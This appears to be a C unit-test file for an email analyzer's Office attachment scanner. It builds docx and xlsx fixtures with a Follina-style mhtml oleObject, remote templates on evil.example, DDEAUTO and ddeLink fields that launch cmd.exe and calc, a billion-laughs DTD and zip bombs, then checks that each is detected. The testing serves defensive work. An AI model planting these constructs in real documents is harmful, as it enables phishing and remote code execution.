/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_ooxml.c -- Office Open XML attachments (src/files/ooxml.c,
 * src/analyze/attach_office.c): docx and xlsx zips written here with
 * libarchive, holding a hyperlink, a remote attachedTemplate, a
 * Follina-style mhtml: oleObject, a DDEAUTO field split over runs, an
 * xlsx ddeLink, entities in a Target, a QR code PNG in word/media
 * (qrencode(1) at test time), a billion-laughs DTD, and hostile files: a
 * zip bomb part, too many bytes in all, a spent email budget, too many
 * links and images (each limit at LIMIT and LIMIT+1), a
 * truncated zip, a zip that is not Office.  Then what the analysis, the
 * detection and the JSON make of them, and a real .docx of the corpus.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <archive.h>
#include <archive_entry.h>
#include <cmocka.h>
#include <glib.h>

#include "analyze/analyze.h"
#include "analyze/detect.h"
#include "common/limits.h"
#include "files/ooxml.h"
#include "report/report.h"
#include "filetest.h"

#define QR_URL	"https://quish.example.net/docx?id=9"
#define REL_NS	"http://schemas.openxmlformats.org/officeDocument/2006/" \
		"relationships/"

static struct arena	*a;	/* filetest_arena()'s: each scan's */


/* ---- building zips -------------------------------------------------- */

static const char	 content_types[] = "<?xml version=\"1.0\"?>"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
    "content-types\"><Default Extension=\"rels\" ContentType=\"application/"
    "vnd.openxmlformats-package.relationships+xml\"/></Types>";

/* One part of a zip: 'len' bytes at 'data', or 'fill' bytes of spaces
 * when 'data' is NULL. */
struct part {
	const char	*name;
	const void	*data;
	size_t		 len;
	size_t		 fill;
};

static size_t
part_len(const struct part *p)
{
	if (p->data == NULL)
		return p->fill;
	return p->len ? p->len : strlen(p->data);
}

/* A deflated zip of 'n' parts (libarchive, in memory). */
static GBytes *
zip_new(const struct part *parts, size_t n)
{
	static char		 spaces[64 * 1024];
	struct archive		*w = archive_write_new();
	struct archive_entry	*en;
	size_t			 cap = 16 * 1024 * 1024, used = 0, i, left, k;
	char			*buf = g_malloc(cap);
	GBytes			*out;

	memset(spaces, ' ', sizeof(spaces));
	assert_int_equal(archive_write_set_format_zip(w), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(w, buf, cap, &used),
	    ARCHIVE_OK);
	for (i = 0; i < n; i++) {
		en = archive_entry_new();
		archive_entry_set_pathname(en, parts[i].name);
		archive_entry_set_filetype(en, AE_IFREG);
		archive_entry_set_perm(en, 0644);
		archive_entry_set_size(en, (la_int64_t)part_len(&parts[i]));
		assert_int_equal(archive_write_header(w, en), ARCHIVE_OK);
		if (parts[i].data != NULL)
			assert_true(archive_write_data(w, parts[i].data,
			    part_len(&parts[i])) >= 0);
		for (left = parts[i].fill; parts[i].data == NULL && left > 0;
		    left -= k) {
			k = MIN(left, sizeof(spaces));
			assert_true(archive_write_data(w, spaces, k) ==
			    (la_ssize_t)k);
		}
		archive_entry_free(en);
	}
	assert_int_equal(archive_write_close(w), ARCHIVE_OK);
	archive_write_free(w);
	out = g_bytes_new(buf, used);
	g_free(buf);
	return out;
}

/* A relationships part holding one external relationship. */
static char *
rels_xml(const char *type, const char *target)
{
	return g_strdup_printf("<?xml version=\"1.0\" encoding=\"UTF-8\" "
	    "standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas."
	    "openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"" REL_NS "styles\" "
	    "Target=\"styles.xml\"/>"
	    "<Relationship Id=\"rId9\" Type=\"" REL_NS "%s\"\n"
	    "  Target=\"%s\" TargetMode=\"External\"/></Relationships>",
	    type, target);
}

static enum ms_err
scan(GBytes *z, size_t *budget, struct ooxml_info *oi)
{
	gsize		 len;
	const void	*p = g_bytes_get_data(z, &len);

	a = filetest_arena();
	return ooxml_scan(a, p, len, budget, LIMIT_QR_IMAGES, oi);
}

static const struct ooxml_rel *
rel(const struct ooxml_info *oi, const char *type)
{
	const struct ooxml_rel	*r;
	size_t			 i;

	for (i = 0; i < oi->rels.n; i++) {
		r = oi->rels.v[i];
		if (strcmp(r->type, type) == 0)
			return r;
	}
	return NULL;
}

/* ---- the scanner ----------------------------------------------------- */

static void
hyperlink(void **state)
{
	char			*r = rels_xml("hyperlink",
	    "http://45.9.148.22/login?a=1&amp;b=&#x32;");
	char			*r2 = rels_xml("hyperlink", "mailto:x@y.example");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/document.xml.rels", r, 0, 0 },
		{ "word/_rels/footer1.xml.rels", r2, 0, 0 },
		{ "word/document.xml", "<w:document><w:body/></w:document>",
		  0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	struct ooxml_info	 oi;
	const struct ooxml_rel	*h;

	(void)state;
	assert_true(ooxml_is_ooxml(g_bytes_get_data(z, NULL),
	    g_bytes_get_size(z)));
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.parts, 4);
	assert_int_equal(oi.rels.n, 2);
	h = rel(&oi, "hyperlink");
	assert_non_null(h);
	assert_string_equal(h->target, "http://45.9.148.22/login?a=1&b=2");
	assert_string_equal(h->part, "word/_rels/document.xml.rels");
	assert_false(h->remote);
	/* mailto: is a relationship, not a URL. */
	assert_int_equal(oi.urls.n, 1);
	assert_string_equal(oi.urls.v[0], "http://45.9.148.22/login?a=1&b=2");
	assert_int_equal(oi.flags, OOXML_EXTERNAL);
	assert_null(oi.limit);
	assert_null(oi.broken);
	g_free(r);
	g_free(r2);
	g_bytes_unref(z);
}

static void
remote_content(void **state)
{
	char			*t = rels_xml("attachedTemplate",
	    "http://evil.example/t.dotm");
	char			*o = rels_xml("oleObject",
	    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/"
	    "x.html");
	char			*f = rels_xml("frame", "\\\\10.0.0.9\\share\\f");
	char			*i = rels_xml("image", "file:///c:/x.png");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/settings.xml.rels", t, 0, 0 },
		{ "word/_rels/document.xml.rels", o, 0, 0 },
		{ "word/_rels/webSettings.xml.rels", f, 0, 0 },
		{ "word/_rels/header1.xml.rels", i, 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	struct ooxml_info	 oi;
	const struct ooxml_rel	*r;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.rels.n, 4);
	r = rel(&oi, "attachedTemplate");
	assert_non_null(r);
	assert_true(r->remote);
	assert_string_equal(r->target, "http://evil.example/t.dotm");
	r = rel(&oi, "oleObject");
	assert_non_null(r);
	assert_true(r->remote);
	assert_non_null(strstr(r->target, "!x-usc:"));
	r = rel(&oi, "frame");
	assert_non_null(r);
	assert_true(r->remote);
	/* An image is remote content only over http(s) or UNC. */
	r = rel(&oi, "image");
	assert_non_null(r);
	assert_false(r->remote);
	assert_int_equal(oi.urls.n, 0);
	assert_int_equal(oi.flags, OOXML_EXTERNAL | OOXML_REMOTE);
	assert_string_equal(ooxml_flag_name(OOXML_REMOTE), "remote_template");
	g_free(t);
	g_free(o);
	g_free(f);
	g_free(i);
	g_bytes_unref(z);
}

/* A template on the local disk is how Word names the user's own
 * Normal.dotm: not remote; a file: URL with a host is. */
static void
local_template(void **state)
{
	static const struct {
		const char	*target;
		int		 remote;
	} t[] = {
		{ "file:///C:\\Users\\jo\\Templates\\Normal.dotm", 0 },
		{ "file:///c:/Users/jo/Templates/Invoice.dotx", 0 },
		{ "file://localhost/C:/t.dotm", 0 },
		{ "C:\\Users\\jo\\t.dotm", 0 },
		{ "file://10.0.0.5/share/t.dotm", 1 },
		{ "file:///\\\\evil.example\\s\\t.dotm", 1 },
		{ "FILE:\\\\evil.example\\s\\t.dotm", 1 },
	};
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/settings.xml.rels", NULL, 0, 0 },
	};
	GBytes			*z;
	struct ooxml_info	 oi;
	char			*r;
	size_t			 i;

	(void)state;
	for (i = 0; i < G_N_ELEMENTS(t); i++) {
		r = rels_xml("attachedTemplate", t[i].target);
		p[1].data = r;
		z = zip_new(p, G_N_ELEMENTS(p));
		assert_int_equal(scan(z, NULL, &oi), MS_OK);
		assert_int_equal(oi.rels.n, 1);
		if (rel(&oi, "attachedTemplate")->remote != t[i].remote)
			fail_msg("%s: remote should be %d", t[i].target,
			    t[i].remote);
		assert_int_equal(!!(oi.flags & OOXML_REMOTE), t[i].remote);
		g_bytes_unref(z);
		g_free(r);
	}
	/* A workbook's link to another on a share is routine; over the
	 * internet it is remote content. */
	p[1].name = "xl/externalLinks/_rels/externalLink1.xml.rels";
	for (i = 0; i < 2; i++) {
		r = rels_xml("externalLinkPath", i == 0 ?
		    "\\\\fileserver\\finance\\budget.xlsx" :
		    "https://evil.example/budget.xlsx");
		p[1].data = r;
		z = zip_new(p, G_N_ELEMENTS(p));
		assert_int_equal(scan(z, NULL, &oi), MS_OK);
		assert_int_equal(!!(oi.flags & OOXML_REMOTE), (int)i);
		g_bytes_unref(z);
		g_free(r);
	}
}

static const char	 dde_doc[] = "<?xml version=\"1.0\"?>"
    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/"
    "wordprocessingml/2006/main\"><w:body><w:p>"
    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    "<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
    "&quot;/k calc&quot;</w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    "<w:r><w:t>Dear customer, see the DDE-protected invoice</w:t></w:r>"
    "</w:p></w:body></w:document>";

static void
dde_field(void **state)
{
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", dde_doc, 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	struct ooxml_info	 oi;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.flags, OOXML_DDE);
	assert_int_equal(oi.dde.n, 1);
	assert_string_equal(oi.dde.v[0], "DDEAUTO c:\\\\windows\\\\system32"
	    "\\\\cmd.exe \"/k calc\"");
	g_bytes_unref(z);
}

static void
dde_simple_and_not(void **state)
{
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/footer1.xml", "<w:ftr><w:fldSimple w:instr=\" DDE "
		  "&quot;c:\\\\x.exe&quot; \"/></w:ftr>", 0, 0 },
	};
	struct part		 q[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", "<w:document><w:instrText> HYPERLINK "
		  "\"http://x.example/DDEX\" </w:instrText><w:t>DDE</w:t>"
		  "</w:document>", 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	GBytes			*y = zip_new(q, G_N_ELEMENTS(q));
	struct ooxml_info	 oi;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.flags, OOXML_DDE);
	assert_string_equal(oi.dde.v[0], "DDE \"c:\\\\x.exe\" ");
	/* DDEX is not DDE, and body text is not a field code. */
	assert_int_equal(scan(y, NULL, &oi), MS_OK);
	assert_int_equal(oi.flags, 0);
	g_bytes_unref(z);
	g_bytes_unref(y);
}

/* HYPERLINK field codes: a link Word shows that no relationship
 * lists, split over runs or in a fldSimple; bookmarks and mailto are
 * not URLs. */
static void
hyperlink_field(void **state)
{
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", "<w:document><w:body><w:p>"
		  "<w:r><w:instrText xml:space=\"preserve\"> HYPERLINK "
		  "\"https://evil.exa</w:instrText></w:r><w:r><w:instrText>"
		  "mple/pay?id=1\" \\o \"Open\" </w:instrText></w:r>"
		  "<w:r><w:instrText> HYPERLINK \\l \"_Toc1\" "
		  "</w:instrText></w:r><w:r><w:instrText> HYPERLINK "
		  "\"mailto:x@y.example\" </w:instrText></w:r>"
		  "<w:fldSimple w:instr=\" HYPERLINK &quot;http://45.9.148.22"
		  "/a&quot; \"/></w:p></w:body></w:document>", 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	struct ooxml_info	 oi;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.urls.n, 2);
	assert_string_equal(oi.urls.v[0], "https://evil.example/pay?id=1");
	assert_string_equal(oi.urls.v[1], "http://45.9.148.22/a");
	assert_int_equal(oi.flags, 0);
	g_bytes_unref(z);
}

static void
xlsx_dde_link(void **state)
{
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "xl/workbook.xml", "<workbook/>", 0, 0 },
		{ "xl/externalLinks/externalLink1.xml", "<?xml version=\"1.0\"?>"
		  "<externalLink xmlns=\"http://schemas.openxmlformats.org/"
		  "spreadsheetml/2006/main\"><ddeLink xmlns:r=\"x\" "
		  "ddeService=\"cmd\" ddeTopic=\"/c calc.exe &amp; x\">"
		  "<ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems>"
		  "</ddeLink></externalLink>", 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	struct ooxml_info	 oi;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.flags, OOXML_DDE_LINK);
	assert_int_equal(oi.dde.n, 1);
	assert_string_equal(oi.dde.v[0], "cmd|'/c calc.exe & x'");
	g_bytes_unref(z);
}

/* A DTD with nested entities is text to the scanner: nothing expands. */
static void
billion_laughs(void **state)
{
	GString			*d = g_string_new("<?xml version=\"1.0\"?>"
	    "<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", NULL, 0, 0 },
		{ "word/_rels/document.xml.rels", NULL, 0, 0 },
	};
	GBytes			*z;
	struct ooxml_info	 oi;
	int			 i;

	(void)state;
	for (i = 1; i < 10; i++)
		g_string_append_printf(d, "<!ENTITY lol%d \"&lol%s;&lol%s;"
		    "&lol%s;&lol%s;&lol%s;&lol%s;&lol%s;&lol%s;&lol%s;"
		    "&lol%s;\">", i, "", "", "", "", "", "", "", "", "", "");
	g_string_append(d, "]><w:document><w:instrText>&lol9; DDE"
	    "</w:instrText><w:instrText attr='>'> x</w:document>");
	p[1].data = d->str;
	p[2].data = "<Relationships><Relationship Target=\"&lol9;\" "
	    "Type=\"" REL_NS "hyperlink\" TargetMode=\"External\"/>"
	    "<Relationship Target=\"http://unterminated";
	z = zip_new(p, G_N_ELEMENTS(p));
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_true(oi.flags & OOXML_DDE);
	assert_string_equal(rel(&oi, "hyperlink")->target, "&lol9;");
	assert_int_equal(oi.urls.n, 0);
	assert_true(oi.inflated < 64 * 1024);
	g_string_free(d, TRUE);
	g_bytes_unref(z);
}

/* ---- hostile packages ------------------------------------------------ */

static void
zip_bomb(void **state)
{
	struct part		 at[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", NULL, 0, LIMIT_OOXML_PART_BYTES },
	};
	struct part		 past[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", NULL, 0, 100u * 1024 * 1024 },
		{ "word/_rels/document.xml.rels", NULL, 0, 0 },
	};
	char			*r = rels_xml("hyperlink", "https://after.example/");
	GBytes			*z;
	struct ooxml_info	 oi;

	(void)state;
	/* At the limit: read whole. */
	z = zip_new(at, G_N_ELEMENTS(at));
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_null(oi.limit);
	assert_int_equal(oi.inflated, LIMIT_OOXML_PART_BYTES);
	g_bytes_unref(z);
	/* 100 MB of spaces in about 100 KB: stops at the cap, and the
	 * parts after it are still read. */
	past[2].data = r;
	z = zip_new(past, G_N_ELEMENTS(past));
	assert_true(g_bytes_get_size(z) < 1024 * 1024);
	assert_int_equal(scan(z, NULL, &oi), MS_ELIMIT);
	assert_non_null(strstr(oi.limit, "LIMIT_OOXML_PART_BYTES"));
	assert_true(oi.inflated <= LIMIT_OOXML_PART_BYTES + 4096);
	assert_int_equal(oi.urls.n, 1);
	g_bytes_unref(z);
	g_free(r);
}

static void
total_limit(void **state)
{
	struct part		 p[6] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
	};
	static const char *const names[] = { "word/document.xml",
	    "word/header1.xml", "word/header2.xml", "word/footer1.xml",
	    "word/footer2.xml" };
	GBytes			*z;
	struct ooxml_info	 oi;
	size_t			 i, budget = 1024 * 1024;

	(void)state;
	for (i = 0; i < 5; i++) {
		p[i + 1].name = names[i];
		p[i + 1].fill = LIMIT_OOXML_PART_BYTES;
	}
	z = zip_new(p, G_N_ELEMENTS(p));
	assert_int_equal(scan(z, NULL, &oi), MS_ELIMIT);
	assert_non_null(strstr(oi.limit, "LIMIT_OOXML_BYTES"));
	assert_int_equal(oi.inflated, LIMIT_OOXML_BYTES);
	/* The email's budget: spent, and no more. */
	assert_int_equal(scan(z, &budget, &oi), MS_ELIMIT);
	assert_non_null(strstr(oi.limit, "budget"));
	assert_int_equal(budget, 0);
	assert_int_equal(oi.inflated, 1024 * 1024);
	g_bytes_unref(z);
}

static void
damaged(void **state)
{
	char			*r = rels_xml("hyperlink", "https://x.example/");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/document.xml.rels", r, 0, 0 },
		{ "word/document.xml", NULL, 0, 200 * 1024 },
	};
	struct part		 q[] = {
		{ "a.txt", "hello", 0, 0 },
		{ "word/_rels/document.xml.rels", r, 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	GBytes			*y = zip_new(q, G_N_ELEMENTS(q));
	struct ooxml_info	 oi;
	gsize			 len;
	const char		*b = g_bytes_get_data(z, &len);

	(void)state;
	/* Truncated: no central directory. */
	a = filetest_arena();
	assert_true(ooxml_is_ooxml(b, len / 2));
	assert_int_equal(ooxml_scan(a, b, len / 2, NULL, 4, &oi), MS_EPARSE);
	assert_non_null(oi.broken);
	/* Not a zip at all. */
	assert_false(ooxml_is_ooxml("%PDF-1.7 [Content_Types].xml", 28));
	assert_int_equal(ooxml_scan(a, "PK\003\004junk", 8, NULL, 4, &oi),
	    MS_EPARSE);
	assert_int_equal(ooxml_scan(a, NULL, 0, NULL, 4, &oi), MS_EPARSE);
	/* A zip without [Content_Types].xml is not Office. */
	assert_false(ooxml_is_ooxml(g_bytes_get_data(y, NULL),
	    g_bytes_get_size(y)));
	assert_int_equal(scan(y, NULL, &oi), MS_EPARSE);
	assert_non_null(strstr(oi.broken, "Content_Types"));
	g_free(r);
	g_bytes_unref(z);
	g_bytes_unref(y);
}

/* 'n' distinct external hyperlinks in one relationships part. */
static GBytes *
many_links(size_t n)
{
	GString			*r = g_string_new("<Relationships>");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/document.xml.rels", NULL, 0, 0 },
	};
	GBytes			*z;
	size_t			 i;

	for (i = 0; i < n; i++)
		g_string_append_printf(r, "<Relationship Id=\"r%zu\" "
		    "Type=\"" REL_NS "hyperlink\" Target=\"https://l%zu."
		    "example/\" TargetMode=\"External\"/>", i, i);
	g_string_append(r, "</Relationships>");
	p[1].data = r->str;
	z = zip_new(p, G_N_ELEMENTS(p));
	g_string_free(r, TRUE);
	return z;
}

static void
url_limit(void **state)
{
	GBytes			*z = many_links(LIMIT_OOXML_URLS);
	struct ooxml_info	 oi;

	(void)state;
	assert_int_equal(scan(z, NULL, &oi), MS_OK);
	assert_int_equal(oi.rels.n, LIMIT_OOXML_URLS);
	assert_int_equal(oi.urls.n, LIMIT_OOXML_URLS);
	g_bytes_unref(z);
	z = many_links(LIMIT_OOXML_URLS + 1);
	assert_int_equal(scan(z, NULL, &oi), MS_ELIMIT);
	assert_int_equal(oi.rels.n, LIMIT_OOXML_URLS);
	assert_non_null(strstr(oi.limit, "LIMIT_OOXML_URLS"));
	g_bytes_unref(z);
}

/* ---- QR codes in images ---------------------------------------------- */

static void
images(void **state)
{
	GBytes			*png = filetest_qr_png(QR_URL), *z;
	struct part		 p[LIMIT_OOXML_IMAGES + 3] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
	};
	const struct ooxml_image *img;
	struct ooxml_info	 oi;
	char			*names[LIMIT_OOXML_IMAGES + 2];
	size_t			 i;

	(void)state;
	for (i = 0; i < LIMIT_OOXML_IMAGES + 2; i++) {
		names[i] = g_strdup_printf("word/media/image%zu.%s", i,
		    i == 0 ? "PNG" : "png");
		p[i + 1].name = names[i];
		p[i + 1].data = g_bytes_get_data(png, &p[i + 1].len);
	}
	/* At the limit, then past it. */
	z = zip_new(p, LIMIT_OOXML_IMAGES + 1);
	a = filetest_arena();
	assert_int_equal(ooxml_scan(a, g_bytes_get_data(z, NULL),
	    g_bytes_get_size(z), NULL, 100, &oi), MS_OK);
	assert_int_equal(oi.images.n, LIMIT_OOXML_IMAGES);
	img = oi.images.v[0];
	assert_int_equal(img->len, g_bytes_get_size(png));
	assert_memory_equal(img->data, g_bytes_get_data(png, NULL), img->len);
	assert_string_equal(img->part, "word/media/image0.PNG");
	g_bytes_unref(z);
	z = zip_new(p, LIMIT_OOXML_IMAGES + 3);
	a = filetest_arena();
	assert_int_equal(ooxml_scan(a, g_bytes_get_data(z, NULL),
	    g_bytes_get_size(z), NULL, 100, &oi), MS_ELIMIT);
	assert_int_equal(oi.images.n, LIMIT_OOXML_IMAGES);
	assert_non_null(strstr(oi.limit, "LIMIT_OOXML_IMAGES"));
	/* What the caller may still decode bounds it, silently. */
	a = filetest_arena();
	assert_int_equal(ooxml_scan(a, g_bytes_get_data(z, NULL),
	    g_bytes_get_size(z), NULL, 2, &oi), MS_OK);
	assert_int_equal(oi.images.n, 2);
	g_bytes_unref(z);
	for (i = 0; i < LIMIT_OOXML_IMAGES + 2; i++)
		g_free(names[i]);
	g_bytes_unref(png);
}

/* ---- the analysis ---------------------------------------------------- */

/* An email with the zips 'z' attached as NAMES[i] (octet-stream: found
 * by content, not by name or type). */
static struct analysis *
run_zips(GBytes *const *z, const char *const *names, size_t n)
{
	return filetest_attached(z, names, "application/octet-stream", n);
}

static void
analysis_link(void **state)
{
	char			*r = rels_xml("hyperlink",
	    "http://45.9.148.22/login");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/document.xml.rels", r, 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	const char		*name = "report.bin";
	struct analysis		*an = run_zips(&z, &name, 1);
	const struct attachment	*at = an->attachments.v[0];
	const struct finding	*f;
	const struct ioc	*u = filetest_url(an, "http://45.9.148.22/login");
	char			*json;

	(void)state;
	assert_non_null(at->office);
	assert_int_equal(at->office_urls.n, 1);
	assert_non_null(u);
	assert_string_equal(u->where, "Office report.bin");
	f = filetest_finding(an, "attach_office_link");
	assert_non_null(f);
	assert_string_equal(f->evidence, "http://45.9.148.22/login");
	assert_int_equal(f->points, 5);
	assert_int_equal(detect_points("attach_office_link"), 5);
	/* The link signals read the document's URL like any other. */
	assert_non_null(filetest_finding(an, "link_ip_host"));
	assert_null(filetest_finding(an, "attach_office_remote_template"));
	assert_null(filetest_finding(an, "attach_office_dde"));
	json = report_analysis_string(an);
	assert_non_null(strstr(json, "\"office_urls\":"
	    "[\"http://45.9.148.22/login\"]"));
	assert_non_null(strstr(json, "\"office_flags\":[\"external_links\"]"));
	assert_null(strstr(json, "\"office_remote\""));
	xfree(json);
	g_free(r);
	g_bytes_unref(z);
}

static void
analysis_remote_dde(void **state)
{
	char			*o = rels_xml("oleObject",
	    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/"
	    "x.html");
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/_rels/document.xml.rels", o, 0, 0 },
		{ "word/document.xml", dde_doc, 0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	const char		*name = "invoice.docx";
	struct analysis		*an = run_zips(&z, &name, 1);
	const struct finding	*f;
	const struct ioc	*u = filetest_url(an, "http://evil.example/x.html");
	char			*json;

	(void)state;
	assert_non_null(u);
	assert_string_equal(u->where, "Office invoice.docx remote template");
	f = filetest_finding(an, "attach_office_remote_template");
	assert_non_null(f);
	assert_int_equal(f->points, 50);
	assert_string_equal(f->evidence, "invoice.docx: oleObject mhtml:"
	    "http://evil.example/x.html!x-usc:http://evil.example/x.html");
	f = filetest_finding(an, "attach_office_dde");
	assert_non_null(f);
	assert_int_equal(f->points, 45);
	assert_non_null(strstr(f->evidence, "invoice.docx: DDEAUTO c:"));
	/* A remote target is not a hyperlink. */
	assert_null(filetest_finding(an, "attach_office_link"));
	json = report_analysis_string(an);
	assert_non_null(strstr(json, "\"office_remote\":[{\"type\":"
	    "\"oleObject\",\"target\":\"mhtml:http://evil.example/"));
	assert_non_null(strstr(json, "\"office_flags\":[\"remote_template\","
	    "\"dde\",\"external_links\"]"));
	assert_non_null(strstr(json, "\"office_dde\":[\"DDEAUTO"));
	xfree(json);
	g_free(o);
	g_bytes_unref(z);
}

static void
analysis_qr_and_hostile(void **state)
{
	GBytes			*png = filetest_qr_png(QR_URL), *z[3];
	struct part		 p[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/media/image1.png", NULL, 0, 0 },
	};
	struct part		 bomb[] = {
		{ "[Content_Types].xml", content_types, 0, 0 },
		{ "word/document.xml", NULL, 0, 20u * 1024 * 1024 },
	};
	const char		*names[] = { "qr.docx", "bomb.docx",
				    "cut.docx" };
	struct analysis		*an;
	const struct finding	*f;
	const struct ioc	*u;
	const struct attachment	*at;
	gsize			 len;

	(void)state;
	p[1].data = g_bytes_get_data(png, &p[1].len);
	z[0] = zip_new(p, G_N_ELEMENTS(p));
	z[1] = zip_new(bomb, G_N_ELEMENTS(bomb));
	z[2] = g_bytes_new_from_bytes(z[0], 0, g_bytes_get_size(z[0]) - 30);
	an = run_zips(z, names, 3);
	at = an->attachments.v[0];
	assert_int_equal(at->qr_urls.n, 1);
	assert_string_equal(at->qr_urls.v[0], QR_URL);
	u = filetest_url(an, QR_URL);
	assert_non_null(u);
	assert_string_equal(u->where, "QR code in Office qr.docx");
	assert_non_null(filetest_finding(an, "attach_qr_url"));
	f = filetest_finding(an, "limit_office");
	assert_non_null(f);
	assert_int_equal(f->kind, FINDING_LIMIT);
	assert_non_null(strstr(f->detail, "bomb.docx: a part larger than "
	    "LIMIT_OOXML_PART_BYTES"));
	assert_true(an->limit_hit);
	f = filetest_finding(an, "office_unreadable");
	assert_non_null(f);
	assert_int_equal(f->kind, FINDING_PARSE);
	assert_non_null(strstr(f->detail, "cut.docx"));
	/* The email itself is fine. */
	assert_false(an->parse_failed);
	(void)len;
	g_bytes_unref(z[0]);
	g_bytes_unref(z[1]);
	g_bytes_unref(z[2]);
	g_bytes_unref(png);
}

static void
analysis_not_office(void **state)
{
	struct part		 p[] = {
		{ "a.txt", "see http://plain.example/ here", 0, 0 },
		{ "b.xml", "<Relationship Type=\"" REL_NS "hyperlink\" "
		  "Target=\"http://no.example/\" TargetMode=\"External\"/>",
		  0, 0 },
	};
	GBytes			*z = zip_new(p, G_N_ELEMENTS(p));
	const char		*name = "files.zip";
	struct analysis		*an = run_zips(&z, &name, 1);
	const struct attachment	*at = an->attachments.v[0];
	size_t			 i;
	const struct finding	*f;

	(void)state;
	assert_null(at->office);
	for (i = 0; i < an->findings.n; i++) {
		f = an->findings.v[i];
		assert_null(strstr(f->id, "office"));
	}
	assert_null(filetest_url(an, "http://no.example/"));
	g_bytes_unref(z);
}

/* A real .docx with one external hyperlink (never opened here, only
 * parsed). */
static void
corpus(void **state)
{
	const char		*file = "/spamassassin-tdata/spam/olevbmacro/"
	    "target_uri.eml", *url = "https://spamassassin.apache.org/";
	const struct attachment	*at;
	const struct finding	*f;
	const struct ioc	*u;
	struct analysis		*an;
	char			*buf, *path;
	size_t			 k, len;
	int			 found = 0;

	(void)state;
	path = g_strconcat(MS_CORPUS, file, NULL);
	if (!g_file_get_contents(path, &buf, &len, NULL))
		fail_msg("%s: cannot read the corpus", path);
	a = filetest_arena();
	assert_int_not_equal(analyze_bytes(a, buf, len, path, &an),
	    MS_EPARSE);
	for (k = 0; k < an->attachments.n; k++) {
		at = an->attachments.v[k];
		if (at->office != NULL && at->office_urls.n == 1 &&
		    strcmp(at->office_urls.v[0], url) == 0)
			found = 1;
	}
	if (!found)
		fail_msg("%s: no Office link %s", path, url);
	u = filetest_url(an, url);
	assert_non_null(u);
	assert_string_equal(u->where, "Office uridoc.docx");
	f = filetest_finding(an, "attach_office_link");
	assert_non_null(f);
	assert_string_equal(f->evidence, url);
	assert_null(filetest_finding(an, "office_unreadable"));
	assert_null(filetest_finding(an, "limit_office"));
	g_free(buf);
	g_free(path);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hyperlink),
		cmocka_unit_test(remote_content),
		cmocka_unit_test(local_template),
		cmocka_unit_test(dde_field),
		cmocka_unit_test(dde_simple_and_not),
		cmocka_unit_test(hyperlink_field),
		cmocka_unit_test(xlsx_dde_link),
		cmocka_unit_test(billion_laughs),
		cmocka_unit_test(zip_bomb),
		cmocka_unit_test(total_limit),
		cmocka_unit_test(damaged),
		cmocka_unit_test(url_limit),
		cmocka_unit_test(images),
		cmocka_unit_test(analysis_link),
		cmocka_unit_test(analysis_remote_dde),
